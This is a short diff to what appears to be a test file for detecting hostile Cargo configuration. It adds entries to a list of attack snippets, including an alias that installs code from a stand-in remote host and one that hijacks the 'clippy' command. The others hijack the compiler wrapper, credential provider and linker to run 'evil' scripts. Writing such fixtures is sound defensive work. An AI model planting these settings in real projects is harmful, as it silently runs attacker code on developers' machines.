@@ -28,6 +28,8 @@ const programs: readonly Attack[] = [
   ['[env] RUSTC_WRAPPER', '[env]\nRUSTC_WRAPPER = "./evil.sh"\n'],
   ['[env] PATH', '[env]\nPATH = { value = "bin", relative = true, force = true }\n'],
   ['[alias]', '[alias]\nb = "run --bin evil"\n'],
+  ['[alias] that installs', '[alias]\nlint = "install --git https://host.invalid/x"\n'],
+  ['[alias] in the place of a command of the toolchain', '[alias]\nclippy = "run --bin evil"\n'],
   ['a credential provider', '[registry]\nglobal-credential-providers = ["./evil.sh"]\n'],
   ['a link argument in rustflags', '[build]\nrustflags = ["-Clinker=./evil.sh"]\n'],
   ['a plugin of the linker in rustflags', `[target.${HOST}]\nrustflags = "-Clink-arg=-fplugin=./evil.so"\n`],
